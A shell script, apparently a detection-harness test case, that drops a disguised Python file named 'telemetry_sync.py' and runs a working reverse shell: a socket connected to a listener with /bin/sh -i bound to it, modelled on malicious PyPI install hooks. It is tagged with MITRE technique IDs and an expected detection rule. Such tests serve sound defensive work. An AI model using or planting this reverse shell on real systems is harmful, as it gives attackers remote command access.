#!/bin/sh
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell; T1095 Non-Application Layer Protocol
# reproduces: the Python reverse shell of PayloadsAllTheThings/revshells.com (subprocess with the socket as stdio), dropped as a script file by malicious PyPI install hooks so that no `python -c` command line shows it
# expect: reverse-shell-socket-stdio ^(da)?sh$
# exec-borne: yes
#
# The script connects to the "C2" (the harness's listener) and runs
# /bin/sh with stdin, stdout and stderr on the socket. The listener sends
# a command that leaves the marker, then `exit`.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

workdir="${BW_ATTACK_TMP:?}/pkg-cache"
mkdir -p "$workdir"
trap 'rm -rf "$workdir"' EXIT

cat >"$workdir/telemetry_sync.py" <<'PY'
import socket
import subprocess
import sys

host, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((host, port), timeout=10)
s.settimeout(None)
fd = s.fileno()
subprocess.call(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
s.close()
PY

python3 "$workdir/telemetry_sync.py" 127.0.0.1 "${BW_ATTACK_LISTEN_PORT:?}"
